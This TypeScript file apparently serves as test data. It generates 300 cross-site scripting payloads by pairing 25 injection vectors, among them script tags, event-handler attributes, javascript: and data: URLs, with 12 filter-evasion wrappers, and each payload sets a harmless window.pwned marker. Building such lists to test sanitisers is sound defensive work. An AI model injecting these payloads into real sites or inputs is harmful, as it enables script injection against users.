/** What to run: it leaves a mark on the page, however it came to run. */
const MARK = 'window.pwned=1'

const ELEMENTS = [
  `<script>${MARK}</script>`,
  `<img src=x onerror=${MARK}>`,
  `<svg onload=${MARK}>`,
  `<svg><animate onbegin=${MARK} attributeName=x dur=1s>`,
  `<body onload=${MARK}>`,
  `<iframe srcdoc="<script>parent.${MARK.slice(7)}</script>">`,
  `<iframe src=javascript:parent.pwned=1>`,
  `<a href=javascript:${MARK}>x</a>`,
  `<details open ontoggle=${MARK}>`,
  `<video><source onerror=${MARK}>`,
  `<audio src=x onerror=${MARK}>`,
  `<input autofocus onfocus=${MARK}>`,
  `<select autofocus onfocus=${MARK}>`,
  `<textarea autofocus onfocus=${MARK}>`,
  `<marquee onstart=${MARK}>`,
  `<object data=javascript:${MARK}>`,
  `<embed src=javascript:${MARK}>`,
  `<math><a xlink:href=javascript:${MARK}>x`,
  `<style>@import 'javascript:${MARK}'</style>`,
  `<form action=javascript:${MARK}><button>`,
  `javascript:${MARK}`,
  `https://x.example/"onmouseover="${MARK}`,
  `https://x.example/'><img src=x onerror=${MARK}>`,
  `data:text/html,<script>${MARK}</script>`,
  `\${${MARK}}`,
]

/** Ways around whoever looks for the plain form. */
const DISGUISES: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `">${payload}`,
  (payload) => `'>${payload}`,
  (payload) => `</p>${payload}`,
  (payload) => `</script>${payload}`,
  (payload) => `<!--${payload}-->`,
  (payload) => `A ${payload.toUpperCase().replaceAll('WINDOW.PWNED', 'window.pwned')}`,
  (payload) => `${payload.replaceAll(' ', '/')}/>`,
  (payload) => `&gt;${payload.replaceAll('<', '&lt;').replaceAll('>', '&gt;')}`,
  (payload) => `&#x22;${payload.replaceAll('javascript:', 'java&#x73;cript:')}`,
  (payload) => `{{${payload}}}`,
  (payload) => `www.x.example/${payload}`,
]

/** 300, each on one line and no longer than a name may be. */
export const XSS_PAYLOADS = DISGUISES.flatMap((disguise) => ELEMENTS.map(disguise))
